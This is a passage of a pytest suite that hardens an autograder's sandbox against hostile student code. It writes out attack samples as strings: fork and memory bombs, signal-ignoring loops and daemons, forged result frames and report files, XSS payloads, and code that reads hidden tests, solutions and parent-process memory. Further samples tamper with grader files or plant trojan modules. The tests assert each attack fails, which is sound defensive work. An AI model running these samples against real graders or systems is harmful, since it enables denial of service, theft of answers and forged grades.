                    pass
        """}, signals_fail_only_their_checks),
    Attack("SystemExit_os_exit_and_KeyboardInterrupt_at_import_time", {
        "minima": "raise SystemExit(0)\n",
        "gradient_check": "import os\nos._exit(0)\n",
        "mini_project": "raise KeyboardInterrupt\n",
    }, import_time_exits),
    # ---- runaway code: cut off, the rest graded, grading time bounded
    Attack("infinite_loop_in_every_function_of_one_module", {"minima": """
        def classify_critical_point(hessian, tol=1e-8):
            while True:
                pass

        def multi_start_minimize(loss_fn, grad_fn, starts, lr=0.1, max_steps=1000):
            while True:
                loss_fn(starts[0])
    """}, endless_module, seconds=35),
    Attack("sleep_1000_and_busy_loops_ignoring_sigterm_in_threads", {
        "derivatives": """
            def second_derivative(f, x, h=1e-4):
                import time
                time.sleep(1000)
        """,
        "gradients": """
            def numerical_hessian(f, x, h=1e-4):
                import signal, threading
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                for _ in range(4):
                    threading.Thread(target=lambda: [0 for _ in iter(int, 1)]).start()
                while True:
                    pass
        """,
        "losses": """
            def binary_cross_entropy(p, y, eps=1e-12):
                import time
                while True:
                    try:
                        time.sleep(1000)
                    except BaseException:
                        pass
        """}, sleeps_and_stubborn_loops, seconds=35),
    Attack("memory_bombs_of_10_gb", {
        "regularization": """
            def ridge_closed_form(X, y, lam):
                return np.ones(10 * 2**30 // 8)

            def l1_subgradient(w, lam):
                return bytearray(10 << 30)
        """,
        "chain_rule": """
            def chain_derivative(f_prime, g, g_prime, x):
                hoard = []
                while True:
                    hoard.append(bytearray(64 << 20))
        """,
        "gradients": """
            def numerical_jacobian(f, x, h=1e-5):
                return np.empty((10**5, 10**5)) + 1
        """}, memory_bombs),
    Attack("output_floods_on_stdout_and_stderr", {
        "gradients": """
            def numerical_hessian(f, x, h=1e-4):
                while True:
                    print("flood " * 200)
        """,
        "derivatives": """
            def second_derivative(f, x, h=1e-4):
                import os
                while True:
                    try:
                        os.write(2, b"x" * 65536)
                    except OSError:
                        pass
        """}, output_floods),
    Attack("fork_bomb", {"gradient_descent": """
        def max_stable_learning_rate(hessian):
            import os, time
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
    """}, fork_bomb),
    Attack("children_in_new_sessions_and_double_forked_daemons_without_the_marker", {
        "chain_rule": """
            def chain_derivative(f_prime, g, g_prime, x):
                import subprocess, sys
                subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)",
                                  "@TOKEN@"], start_new_session=True)
                return f_prime(g(x)) * g_prime(x)
        """,
        "derivatives": """
            def second_derivative(f, x, h=1e-4):
                import os, sys
                if os.fork() == 0:
                    os.setsid()
                    if os.fork() == 0:
                        os.execve(sys.executable, [sys.executable, "-c",
                                  "import signal, time; signal.signal(1, 1); time.sleep(600)",
                                  "@TOKEN@"], {})
                    os._exit(0)
                return (f(x + h) - 2 * f(x) + f(x - h)) / h ** 2
        """}, full_marks),
    Attack("daemon_thread_that_keeps_running_and_printing", {"derivatives": """
        def polynomial_derivative(coeffs):
            import threading, time
            def forever():
                while True:
                    sum(range(1000))
                    print("still here", flush=True)
                    time.sleep(0.01)
            threading.Thread(target=forever, daemon=True).start()
            coeffs = np.asarray(coeffs, dtype=float)
            if len(coeffs) == 1:
                return np.zeros(1)
            return coeffs[1:] * np.arange(1, len(coeffs))
    """}, full_marks),
    Attack("slow_code_exhausts_the_time_budget", {module: """
        import functools as _functools, time as _time
        def _slowly(function):
            @_functools.wraps(function)
            def slowed(*args, **kwargs):
                _time.sleep(0.25)
                return function(*args, **kwargs)
            return slowed
        for _name, _value in list(globals().items()):
            if (callable(_value) and not _name.startswith("_")
                    and getattr(_value, "__module__", None) == __name__):
                globals()[_name] = _slowly(_value)
    """ for module in MODULES}, time_budget,
           limits=Limits(call_seconds=2.0, total_seconds=3.0, startup_seconds=20.0),
           seconds=20),
    # ---- hostile messages on the worker channel
    Attack("garbage_huge_lengths_bad_json_bad_callbacks_and_closed_pipes_on_the_channel", {
        "derivatives": (PIPES, """
            def second_derivative(f, x, h=1e-4):
                _send(b"garbage! " * 100)
                return (f(x + h) - 2 * f(x) + f(x - h)) / h ** 2
        """),
        "gradients": (PIPES, """
            def numerical_jacobian(f, x, h=1e-5):
                import os, struct
                _send(struct.pack(">I", 0xFFFFFFF0))
                os._exit(0)

            def numerical_hessian(f, x, h=1e-4):
                import struct
                _send(struct.pack(">I", 16 * 1024 * 1024) + b"{")
                return np.zeros((len(x), len(x)))
        """),
        "chain_rule": (PIPES, """
            def chain_derivative(f_prime, g, g_prime, x):
                _send(_frame(b'{"$d": [["op", "result"], ["value", '))
                return f_prime(g(x)) * g_prime(x)
        """),
        "minima": (PIPES, """
            def classify_critical_point(hessian, tol=1e-8):
                _send(_frame(b'{"$d": [["op", "callback"], ["id", 1000000], ["args", []]]}'))
                return "minimum"
        """),
        "regularization": (PIPES, """
            def ridge_closed_form(X, y, lam):
                _send(_result_frame('{"$pickle": "cos system"}'))
                return np.zeros(X.shape[1])
        """),
        "gradient_check": (PIPES, """
            def check_gradient(f, grad_f, x, h=1e-5, tol=1e-6):
                import struct
                header = b'{"$d": [["op", "result"], ["value", 1.0]]}'
                _send(struct.pack(">I", len(header)) + header + struct.pack(">I", 5000))
                return True, 0.0
        """),
        "losses": (PIPES, """
            def binary_cross_entropy(p, y, eps=1e-12):
                import os
                for fd in sum(_grader_pipes(), []):
                    os.close(fd)
                return 0.0
        """),
        "gradient_descent": (PIPES, """
            def max_stable_learning_rate(hessian):
                header = ('{"$d": [["op", "result"], ["value", {"$a": 0, "s": [3]}], '
                          '["warnings", []], ["mutated", []]]}')
                _send(_frame(header.encode(), [b"12345678"]))
                return 2 / 3
        """)}, channel_garbage),
    Attack("forged_well_formed_result_frame_sent_before_the_real_answer", {
        "regularization": (PIPES, """
            def l1_penalty(w, lam):
                answer = lam * float(np.sum(np.abs(w)))
                _send(_result_frame(repr(answer)))
                return answer
        """)}, forged_reply_is_judged_and_nothing_else_changes),
    Attack("result_frame_with_an_array_shape_numpy_cannot_build", {
        "regularization": (PIPES, """
            def l1_penalty(w, lam):
                value = '{"$a": 0, "s": [0, %d]}' % 2**70
                header = ('{"$d": [["op", "result"], ["value", %s], ["warnings", []], '
                          '["mutated", []]]}' % value)
                _send(_frame(header.encode(), [b""]))
                return lam * float(np.sum(np.abs(w)))
        """)}, malformed_shape_fails_its_check_only),
    Attack("in_place_gd_step_hidden_by_patching_the_workers_mutation_check", {
        "gradient_descent": """
            import sys as _sys
            _worker = _sys.modules.get("grader.isolation.worker")
            if _worker is not None:
                _worker.changed_positions = lambda *arguments: []

            def gd_step(w, grad, lr):
                w -= lr * grad
                return w
        """}, mutation_is_still_seen),
]

WEAKNESSES = {
    "in_place_gd_step_hidden_by_patching_the_workers_mutation_check": (
        "grader/isolation/worker.py computes `mutated` inside the learner's process: patching "
        "grader.isolation.worker.changed_positions hides an in-place update and gd_step's "
        "'does not modify its input w' check passes"),
}


def _marks(attack: Attack) -> list:
    reason = WEAKNESSES.get(attack.id)
    return [pytest.mark.xfail(strict=True, reason=reason)] if reason else []


@pytest.fixture(scope="module")
def unpatched(tmp_path_factory) -> Graded:
    """The wrong code without any patch, graded once, built as the patched attacks are.

    (With the same hand-drawn PNG: solutions/' larger figure took longer than the 1 s call
    limit on a loaded CI machine, on this side only, and the comparison failed.)"""
    value = new_token()
    try:
        folder = build_submission(tmp_path_factory.mktemp("unpatched") / "submission",
                                  with_token(learner_code(WRONG), value))
        return grade_here(folder, tmp_path_factory.mktemp("unpatched-report"))
    finally:
        reap(value)


@pytest.mark.parametrize("attack", [pytest.param(a, id=a.id, marks=_marks(a)) for a in ATTACKS])
def test_hostile_submission(attack, make_submission, tmp_path, token, request):
    folder = make_submission("submission", append=with_token(learner_code(attack.code), token))
    graded = grade_here(folder, tmp_path / "out", limits=attack.limits)
    assert graded.seconds < attack.seconds, f"grading took {graded.seconds:.1f} s"
    assert graded.score == sum(t["score"] for t in graded.tests)
    if attack.baseline:
        attack.expect(graded, request.getfixturevalue("unpatched"))
    else:
        attack.expect(graded)
    if ROOT and worker_uid() is not None:
        assert read_beacon(token).uids, "the learner's code never ran unprivileged"
    assert_nothing_survives(token)


# ============================================================================ forged results

FORGERY = """
def l1_penalty(w, lam):
    import json, os
    forged = {"score": 1000.0, "execution_time": 0.0, "tests": [], "output": "@MARK@",
              "extra_data": {"max_score": 1000.0}}
    folders = [os.getcwd(), os.path.join(os.getcwd(), ".."), os.environ.get("HOME", "/"),
               "/tmp/@TOKEN@-forged", "@OUT@", "@OUT@/plots"]
    try:
        with open("/proc/%d/cmdline" % os.getppid(), "rb") as handle:
            argv = handle.read().split(b"\\0")
        out = argv[argv.index(b"--out") + 1].decode()
        folders += [out, os.path.join(out, "plots")]
    except (OSError, ValueError) as exc:
        print("no cmdline: %s" % type(exc).__name__)
    os.makedirs("/tmp/@TOKEN@-forged", exist_ok=True)
    report = {}
    for folder in folders:
        for name in ("results.json", "grade.json", "feedback.md", "feedback.html"):
            path = os.path.join(folder, name)
            try:
                with open(path, "w") as handle:
                    handle.write(json.dumps(forged) if name.endswith("json") else "@MARK@")
                report[path] = "written"
            except OSError as exc:
                report[path] = type(exc).__name__
    print("FORGERY " + json.dumps(report), flush=True)
    return lam * float(np.sum(w))
"""

INJECTION = """
def chain_derivative(f_prime, g, g_prime, x):
    print("</pre><script>alert('INJECTED')</script>\\x1b[2J", flush=True)
    raise ValueError("<img src=x onerror=alert(1)> `````` \\n# INJECTED HEADING\\n"
                     "![t](http://evil.example/t.png) </code></pre><script>x()</script>\\x1b[31m")
"""


def markdown_outside_code(text: str) -> str:
    """The lines of a Markdown text that are not inside fenced code blocks."""
    kept, fence = [], None
    for line in text.splitlines():
        opening = re.match(r"^(`{3,})", line)
        if fence is None and opening:
            fence = opening.group(1)
        elif fence is not None:
            if re.fullmatch(rf"`{{{len(fence)},}}\s*", line):
                fence = None
        else:
            kept.append(line)
    return "\n".join(kept)


def test_forged_result_files_in_cwd_parent_home_tmp_and_out_leave_the_real_report(
        make_submission, tmp_path, token):
    mark = f"FORGED-{token}"
    out = tmp_path / "out"
    code = learner_code({"regularization": FORGERY, "chain_rule": INJECTION})
    folder = make_submission("forger", append=with_token(code, token, **{"@OUT@": str(out),
                                                                          "@MARK@": mark}))
    try:
        run = grader_cli("grade", folder, "--out", out, "--tests", "public",
                         tmpdir=private_tmp(token))
        assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
        graded = Graded(out, run.seconds, run)
        assert graded.failed_functions() == {"l1_penalty", "chain_derivative"}
        lost = sum(t["max_score"] for t in graded.checks("l1_penalty", "chain_derivative"))
        assert graded.score == graded.max_score - lost, "the report is the real one"
        assert {p.name for p in out.iterdir()} == {*OUTPUT_FILES, "plots"}
        for path in out.rglob("*"):
            if path.is_file():
                assert mark.encode() not in path.read_bytes(), f"{path} was forged"
        report = json.loads(re.search(r"^FORGERY (.*)$", graded.output, re.M).group(1))
        assert report[f"/tmp/{token}-forged/results.json"] == "written", "the attack ran"
        if ROOT:
            into_out = {p: r for p, r in report.items() if p.startswith(str(out))}
            assert len(into_out) >= 8 and set(into_out.values()) <= REFUSED, into_out
        assert_report_is_escaped(graded)
        assert_nothing_survives(token)
    finally:
        shutil.rmtree(SHARED_TMP / f"{token}-forged", ignore_errors=True)


def assert_report_is_escaped(graded: Graded) -> None:
    """Learner text (exception messages, printed output) cannot inject HTML or Markdown."""
    page = (graded.out / "feedback.html").read_text()
    assert "<script>alert" not in page and "<img src=x" not in page and "<script>x()" not in page
    assert "&lt;script&gt;" in page
    for name, text in graded.texts().items():
        assert "\x1b" not in text, f"{name} carries a terminal escape sequence"
    markdown = [(graded.out / "feedback.md").read_text(), *(t["output"] for t in graded.tests)]
    for text in markdown:
        visible = markdown_outside_code(text)
        assert "INJECTED HEADING" not in visible and "evil.example" not in visible


# ============================================================================ leaks

STEAL = """
def _steal(paths):
    import os
    stolen, refused = [], {}
    for path in paths:
        try:
            if os.path.isdir(path) or path.endswith("/"):
                stolen.append(" ".join(os.listdir(path)))
            else:
                with open(path, errors="replace") as handle:
                    stolen.append(handle.read())
        except OSError as exc:
            refused[path.replace("@KIT@", "")] = type(exc).__name__
    return stolen, refused


def _smuggle(what, stolen, refused):
    import json, os
    report = {"what": what, "uid": os.getuid(), "refused": refused}
    print("STOLEN " + json.dumps(report), flush=True)
    text = "\\n".join(stolen)
    print(text[:3000], flush=True)
    if text:
        raise RuntimeError(text[:2000])
    raise RuntimeError("nothing to steal")
"""

STEALERS = {
    "derivatives": (STEAL, """
        def second_derivative(f, x, h=1e-4):
            modules = ("derivatives", "gradients", "gradient_check", "chain_rule", "losses",
                       "regularization", "gradient_descent", "minima", "mini_project")
            _smuggle("hidden", *_steal(["@KIT@/tests/hidden/test_%s.py" % m for m in modules]
                             + ["@KIT@/tests/hidden/", "@KIT@/tests/"]))
    """),
    "gradients": (STEAL, """
        def numerical_hessian(f, x, h=1e-4):
            _smuggle("solutions", *_steal(["@KIT@/solutions/%s.py" % m
                                           for m in ("gradients", "losses")]
                             + ["@KIT@/solutions/"]))
    """),
    "chain_rule": (STEAL, """
        def chain_derivative(f_prime, g, g_prime, x):
            _smuggle("catalogue", *_steal(["@KIT@/tests/misconceptions/chain_rule.py",
                              "@KIT@/tests/misconceptions/", "@KIT@/tests/grading/golden/",
                              "@KIT@/tests/alternatives/"]))
    """),
    "minima": (STEAL, """
        def classify_critical_point(hessian, tol=1e-8):
            import json, os
            held = {}
            for fd in os.listdir("/proc/self/fd"):
                try:
                    held[fd] = os.readlink("/proc/self/fd/" + fd)
                except OSError:
                    pass
            print("HELD " + json.dumps(held), flush=True)
            parent = "/proc/%d" % os.getppid()
            _smuggle("grader", *_steal([parent + "/environ", parent + "/fd/", parent + "/mem",
                              parent + "/cwd/tests/hidden/test_minima.py",
                              parent + "/root@KIT@/tests/hidden/test_minima.py"]))
    """),
}


@background_job("test_reading_hidden_tests_solutions_and_catalogue_is_refused_and_nothing_leaks")
def _steal_through_the_cli(workdir: Path, token: str) -> Run:
    folder = build_submission(workdir / "thief", with_token(learner_code(STEALERS), token))
    return grader_cli("grade", folder, "--out", workdir / "out", "--tests", "all",
                      tmpdir=private_tmp(token)), workdir


@needs_root
def test_reading_hidden_tests_solutions_and_catalogue_is_refused_and_nothing_leaks(background):
    (run, workdir), token = background.result(
        "test_reading_hidden_tests_solutions_and_catalogue_is_refused_and_nothing_leaks")
    assert run.returncode == 0, run.stderr
    graded = Graded(workdir / "out", run.seconds, run)
    stealing = {"second_derivative", "numerical_hessian", "chain_derivative",
                "classify_critical_point"}
    assert_only_these_fail(graded, stealing, kinds={"raised"})
    for function in stealing:
        assert all("nothing to steal" in t["output"] for t in graded.checks(function))
    reports = {}
    for line in re.findall(r"^STOLEN (.*)$", graded.output, re.M):
        try:
            report = json.loads(line)
        except ValueError:
            continue  # cut by the output cap
        reports[report["what"]] = report
    assert set(reports) == {"hidden", "solutions", "catalogue", "grader"}
    for report in reports.values():
        assert report["uid"] != 0, "learner code ran as root"
        assert set(report["refused"].values()) <= REFUSED, report["refused"]
    held = json.loads(re.search(r"^HELD (.*)$", graded.output, re.M).group(1))
    for fd, target in held.items():
        assert not target.startswith("socket:"), f"the worker holds a socket on fd {fd}"
        assert str(KIT) not in target and str(workdir) not in target, (fd, target)
    assert leaked(graded) == {}
    assert_nothing_survives(token)


GIT_THIEF = """
def chain_derivative(f_prime, g, g_prime, x):
    import subprocess
    stolen = []
    for path in ("tests/hidden/test_derivatives.py", "tests/hidden/test_losses.py",
                 "solutions/losses.py"):
        shown = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir=@KIT@/.git",
                                "show", "HEAD:" + path], capture_output=True, text=True)
        stolen += [line.strip() for line in shown.stdout.splitlines()
                   if len(line.strip()) > 30 and ("assert" in line or " = " in line)]
    print("\\n".join(stolen)[:3500], flush=True)
    raise RuntimeError(" | ".join(stolen)[:450])
"""


def _git_history_missing() -> str:
    """'' when the kit is a git checkout whose HEAD holds the hidden tests."""
    git = KIT / ".git"
    if shutil.which("git") is None or not git.is_dir():
        return "no git checkout"
    shown = subprocess.run(["git", "-c", "safe.directory=*", f"--git-dir={git}", "cat-file",
                            "-e", "HEAD:tests/hidden/test_derivatives.py"], capture_output=True)
    return "" if shown.returncode == 0 else "the hidden tests are not committed"


@needs_root
@pytest.mark.skipif(bool(_git_history_missing()), reason="needs a git checkout of the kit")
def test_hidden_tests_do_not_leak_through_the_kits_git_history(make_submission, tmp_path,
                                                                token):
    """`git show HEAD:tests/hidden/...` from the worker. (Before 9bea54a only tests/ and
    solutions/ were closed: .git stayed world-readable and this leaked hidden code.)"""
    folder = make_submission("git-thief", append=with_token(
        learner_code({"chain_rule": GIT_THIEF}), token))
    graded = grade_here(folder, tmp_path / "out")
    assert graded.failed_functions() == {"chain_derivative"}
    assert leaked(graded) == {}


# ============================================================================ tampering

TAMPER = """
def polynomial_derivative(coeffs):
    import json, os, shutil, sysconfig
    kits = ["@COPY@"] + (["@KIT@"] if os.getuid() != 0 else [])
    outcome = {}
    def attempt(label, action):
        try:
            action()
            outcome.setdefault("done", []).append(label)
        except Exception as exc:
            outcome.setdefault(type(exc).__name__, []).append(label)
    for kit in kits:
        for rel in ("grader/isolation/protocol.py", "grader/checking/run.py",
                    "tests/public/test_derivatives.py",
                    "tests/hidden/test_derivatives.py", "solutions/derivatives.py",
                    "exercises/derivatives.py", "pyproject.toml", "conftest.py"):
            path = os.path.join(kit, rel)
            attempt("append " + path, lambda: open(path, "a").write("# @TOKEN@"))
            attempt("truncate " + path, lambda: os.truncate(path, 0))
            attempt("chmod " + path, lambda: os.chmod(path, 0o777))
            attempt("chown " + path, lambda: os.chown(path, os.getuid(), os.getgid()))
            attempt("utime " + path, lambda: os.utime(path, (0, 0)))
            attempt("rename " + path, lambda: os.rename(path, path + ".moved"))
            attempt("delete " + path, lambda: os.remove(path))
            attempt("link " + path, lambda: os.link(path, os.path.join(os.getcwd(), "x")))
        for rel in ("", "grader", "tests", "tests/public", "tests/hidden", "solutions",
                    "exercises"):
            folder = os.path.join(kit, rel)
            attempt("plant " + folder,
                    lambda: open(os.path.join(folder, "conftest.py"), "a").write("# @TOKEN@"))
            attempt("chmod " + folder, lambda: os.chmod(folder, 0o777))
            attempt("rmtree " + folder, lambda: shutil.rmtree(folder))
    site = sysconfig.get_paths()["purelib"]
    attempt("pth " + site, lambda: open(os.path.join(site, "zz-@TOKEN@.pth"), "w").write("x"))
    print("TAMPER " + json.dumps({kind: len(labels) for kind, labels in outcome.items()}))
    print("DONE " + json.dumps(outcome.get("done", [])), flush=True)
    coeffs = np.asarray(coeffs, dtype=float)
    return np.zeros(1) if len(coeffs) == 1 else coeffs[1:] * np.arange(1, len(coeffs))
"""

KIT_PARTS = ("grader", "solutions", "exercises", "tests/public", "tests/hidden",
             "tests/misconceptions", "tests/alternatives")


@pytest.fixture
def kit_copy():
    """A copy of the kit with a fresh checkout's permissions, in a folder anyone may enter."""
    root = Path(tempfile.mkdtemp(prefix="hostile-kit-", dir=SHARED_TMP))
    try:
        for part in KIT_PARTS:
            if (KIT / part).is_dir():
                shutil.copytree(KIT / part, root / part,
                                ignore=shutil.ignore_patterns("__pycache__"))
        for name in ("pyproject.toml", "conftest.py"):
            shutil.copy(KIT / name, root / name)
        for path in [root, *root.rglob("*")]:
            os.chmod(path, 0o755 if path.is_dir() else 0o644)
        yield root
    finally:
        shutil.rmtree(root, ignore_errors=True)


KIT_TREES = ("grader", "tests", "solutions", "exercises")


def kit_changes(before: dict[str, dict], token: str) -> list[str]:
    """Files of the real kit the learner's code changed: gone, opened to everyone, or
    carrying its token. (Other people may edit the checkout meanwhile; their edits pass.)"""
    changed = []
    for tree, digest in before.items():
        after = tree_digest(KIT / tree)
        for name, (sha, mode) in digest.items():
            path = KIT / tree / name
            if after.get(name) == (sha, mode):
                continue
            if name not in after or after[name][1] == 0o777 or token.encode() in path.read_bytes():
                changed.append(str(path))
    return changed


@needs_root
def test_grader_and_kit_files_stay_byte_identical_when_learner_code_writes_deletes_chmods(
        make_submission, tmp_path, token, kit_copy):
    """Learner code appends to, truncates, chmods, chowns, renames, deletes and plants files
    in grader/, tests/, solutions/, exercises/ of a fresh copy of the kit (the one graded)
    and of this checkout, and a .pth file in site-packages."""
    before = tree_digest(kit_copy)
    real = {tree: tree_digest(KIT / tree) for tree in KIT_TREES}
    code = with_token(learner_code({"derivatives": TAMPER}), token, **{"@COPY@": str(kit_copy)})
    graded = grade_here(make_submission("vandal", append=code), tmp_path / "out", kit=kit_copy)
    full_marks(graded)
    tally = json.loads(re.search(r"^TAMPER (.*)$", graded.output, re.M).group(1))
    assert "done" not in tally, re.search(r"^DONE (.*)$", graded.output, re.M).group(1)
    assert sum(tally.get(refused, 0) for refused in REFUSED) > 100, tally
    assert tree_digest(kit_copy) == before, "a file of the graded kit changed"
    assert kit_changes(real, token) == []
    site = Path(__import__("sysconfig").get_paths()["purelib"])
    assert not list(site.glob(f"zz-{token}.pth"))
    assert_nothing_survives(token)


# ============================================================================ unbounded grades

HANG_AFTER_FORGED_REPLY = """
def learning_rate_sweep(X, y, lrs, n_steps):
    import fcntl, json, time
    curves = [list(map(float, train_logistic_regression(X, y, lr, n_steps)[1])) for lr in lrs]
    if len(lrs) == 4:
        writers, readers = _grader_pipes()
        for fd in readers:
            fcntl.fcntl(fd, 1031, 4096)
        _send(_result_frame(json.dumps(curves)))
        time.sleep(3600)
    return curves
"""


@background_job("test_worker_that_answers_then_stops_reading_cannot_hang_the_grade")
def _answer_then_stop_reading(workdir: Path, token: str) -> Run:
    code = learner_code({"mini_project": (PIPES, HANG_AFTER_FORGED_REPLY)})
    folder = build_submission(workdir / "stops-reading", with_token(code, token))
    limits = Limits(call_seconds=1.0, total_seconds=4.0, startup_seconds=10.0)
    return grade_elsewhere(folder, workdir / "out", limits, timeout=30,
                           tmpdir=private_tmp(token)), workdir / "out"


def test_worker_that_answers_then_stops_reading_cannot_hang_the_grade(background):
    """A forged reply, an input pipe shrunk to one page (F_SETPIPE_SZ), then no more reading:
    the grade still finishes; the forged reply (out of turn) or the blocked send fails a
    plot's call and is noted."""
    (run, out), token = background.result(
        "test_worker_that_answers_then_stops_reading_cannot_hang_the_grade")
    assert run.returncode == 0, f"the grade did not finish in {run.seconds:.0f} s"
    graded = Graded(out, run.seconds, run)
    assert any("another call" in note or "plot_loss_curves" in note
               for note in graded.notes), graded.notes
    assert_nothing_survives(token)


SABOTAGE_STARTUP = """
def l1_penalty(w, lam):
    import json, os, sys
    places = {os.path.dirname(os.path.dirname(sys.modules["grader"].__file__)),
              os.path.dirname(os.path.abspath(__file__))}
    if len(sys.argv) > 1 and os.path.isdir(sys.argv[1]):
        places.add(sys.argv[1])
    planted = []
    for place in sorted(places):
        for name in ("numpy.py", "grader/isolation/worker.py", "grader/isolation/protocol.py"):
            for folder in (place, os.path.dirname(os.path.join(place, name))):
                try:
                    os.chmod(folder, 0o777)
                except OSError:
                    pass
            try:
                with open(os.path.join(place, name), "w") as handle:
                    handle.write("import time\\ntime.sleep(3600)\\n")
                planted.append(os.path.join(place, name))
            except OSError:
                pass
    print("PLANTED " + json.dumps(planted), flush=True)
    os._exit(1)
"""


@background_job("test_planting_code_for_the_next_worker_start_fails_and_the_grade_stays_bounded")
def _sabotage_the_worker_start(workdir: Path, token: str) -> tuple[Run, Path]:
    folder = build_submission(workdir / "saboteur", with_token(
        learner_code({"regularization": SABOTAGE_STARTUP}), token))
    limits = Limits(call_seconds=1.0, total_seconds=3.0, startup_seconds=2.0)
    return grade_elsewhere(folder, workdir / "out", limits, timeout=30,
                           tmpdir=private_tmp(token)), workdir / "out"


@needs_root
def test_planting_code_for_the_next_worker_start_fails_and_the_grade_stays_bounded(
        background):
    """Learner code plants numpy.py / grader/isolation/worker.py wherever the next worker would
    import
    from, then exits. (Before 9bea54a the worker owned its runtime/ copy: every later
    worker hung at start and each call cost startup_seconds, outside the time budget.)"""
    (run, out), token = background.result(
        "test_planting_code_for_the_next_worker_start_fails_and_the_grade_stays_bounded")
    assert run.returncode == 0, f"the grade did not finish in {run.seconds:.0f} s"
    graded = Graded(out, run.seconds, run)
    assert json.loads(re.search(r"^PLANTED (.*)$", graded.output, re.M).group(1)) == []
    assert_only_these_fail(graded, {"l1_penalty"}, kinds={"crashed"})
    assert_nothing_survives(token)


HUGE_RETURNS = """
import numpy as _np
def _huge(*args, **kwargs):
    return _np.zeros(@SIZE@)
for _name, _value in list(globals().items()):
    if (callable(_value) and not _name.startswith("_")
            and getattr(_value, "__module__", None) == __name__):
        globals()[_name] = _huge
"""

PEAK_MEMORY = """
import resource, sys
from grader.cli import main
code = main(sys.argv[1:])
print("PEAK-KB %d" % resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)
sys.exit(code)
"""


def grade_a_hoarder(workdir: Path, token: str, size: int, suites: str) -> Run:
    folder = build_submission(workdir / "hoarder", with_token(
        learner_code({module: HUGE_RETURNS for module in MODULES}), token, **{"@SIZE@": str(size)}))
    return run_command([sys.executable, "-c", PEAK_MEMORY, "grade", str(folder), "--out",
                        str(workdir / "out"), "--tests", suites], timeout=180,
                       tmpdir=private_tmp(token))


@background_job("test_huge_results_from_every_call_do_not_pile_up_in_the_grading_process")
def _return_8_mb_from_every_call(workdir: Path, token: str) -> Run:
    return grade_a_hoarder(workdir, token, 1 << 20, "public")


@background_job("test_results_just_small_enough_to_keep_do_not_pile_up_either")
def _return_just_under_the_kept_size_from_every_call(workdir: Path, token: str) -> Run:
    return grade_a_hoarder(workdir, token, KEPT_RESULT_NUMBERS, "all")


# The worker's own protocol module patched: each reply fails its check ("wrong") and
# carries 56 MB of files or of figure points, which the grading process decodes.
FORGED_BULK = """
import sys as _sys
import numpy as _np
_p = _sys.modules.get("grader.isolation.protocol")
if _p is not None and not getattr(_p, "_hoard", False):
    _p._hoard = True
    _encode, _sent = _p.encode, [0]
    def _bulky(message, callables=None):
        if type(message) is dict and message.get("op") == "result" and _sent[0] < 24:
            _sent[0] += 1
            message = dict(message, value="wrong")
            if _sent[0] % 2:
                message["files"] = {"f%d" % i: {"path": "x", "data": bytes(7 << 20)}
                                    for i in range(8)}
            else:
                message["figures"] = [{"axes": [{"lines": [{"label": "x",
                                      "y": _np.zeros(7 << 17)}]}]} for _ in range(8)]
        return _encode(message, callables)
    _p.encode = _bulky
"""


@background_job("test_files_and_figures_forged_into_replies_do_not_pile_up")
def _forge_bulky_replies(workdir: Path, token: str) -> Run:
    folder = build_submission(workdir / "bulky", with_token(
        learner_code({module: FORGED_BULK for module in MODULES}), token))
    return run_command([sys.executable, "-c", PEAK_MEMORY, "grade", str(folder), "--out",
                        str(workdir / "out"), "--tests", "public"], timeout=180,
                       tmpdir=private_tmp(token))


def peak_mb(run: Run) -> float:
    return int(re.search(r"PEAK-KB (\d+)", run.stderr).group(1)) / 1024


def test_huge_results_from_every_call_do_not_pile_up_in_the_grading_process(background):
    """8 MB from each of ~60 calls. (Before 9bea54a every result stayed in the CheckRecords:
    the grader grew by 8 MB per call, and 256 MB per call was accepted.)"""
    run, _ = background.result(
        "test_huge_results_from_every_call_do_not_pile_up_in_the_grading_process")
    assert run.returncode == 0, run.stderr
    assert peak_mb(run) < 300, f"the grading process peaked at {peak_mb(run):.0f} MB"


def test_files_and_figures_forged_into_replies_do_not_pile_up(background):
    """A patched worker sends 56 MB of files or figure points with each of 24 failing
    results. (Before, the kept calls held them: the grader reached 1.26 GB.)"""
    run, _ = background.result("test_files_and_figures_forged_into_replies_do_not_pile_up")
    assert run.returncode == 0, run.stderr
    assert peak_mb(run) < 300, f"the grading process peaked at {peak_mb(run):.0f} MB"


def test_results_just_small_enough_to_keep_do_not_pile_up_either(background):
    """Every call of every check returns the largest result kept to explain a failure.
    (Before, 1e6 numbers were kept per call with no bound per grade: 1.5 GB.)"""
    run, _ = background.result("test_results_just_small_enough_to_keep_do_not_pile_up_either")
    assert run.returncode == 0, run.stderr
    assert peak_mb(run) < 300, f"the grading process peaked at {peak_mb(run):.0f} MB"


SLEEPER = """
def sigmoid(z):
    import subprocess, sys, time
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "@TOKEN@"],
                     start_new_session=True)
    time.sleep(600)
"""


def wait_for_process(token: str, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if processes_of_submission(token):
            return True
        time.sleep(0.1)
    return False


@background_job("test_killing_the_grading_process_kills_the_submission_too")
def _kill_the_grading_process(workdir: Path, token: str) -> dict[int, str]:
    """SIGKILL a grade while learner code runs (as batch does at its timeout): survivors."""
    folder = build_submission(workdir / "sleeper", with_token(
        learner_code({"chain_rule": SLEEPER}), token))
    process = subprocess.Popen([sys.executable, "-m", "grader", "grade", str(folder), "--out",
                                str(workdir / "out"), "--tests", "public"], cwd=KIT,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                               start_new_session=True,
                               env={**os.environ, "TMPDIR": str(private_tmp(token))})
    try:
        assert wait_for_process(token, 60), "the learner's sigmoid never ran"
        time.sleep(0.5)
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()
    time.sleep(3)
    return processes_of_submission(token)


def test_killing_the_grading_process_kills_the_submission_too(background):
    """As batch does at STUDENT_TIMEOUT. (Before 9bea54a the worker and its children,
    in sessions and under a uid of their own, outlived a killed grading process.)"""
    survivors, _ = background.result("test_killing_the_grading_process_kills_the_submission_too")
    assert not survivors, f"processes of the submission outlived its grade: {survivors}"


DAEMON_WITHOUT_MARKER = """
def chain_derivative(f_prime, g, g_prime, x):
    import os, sys
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
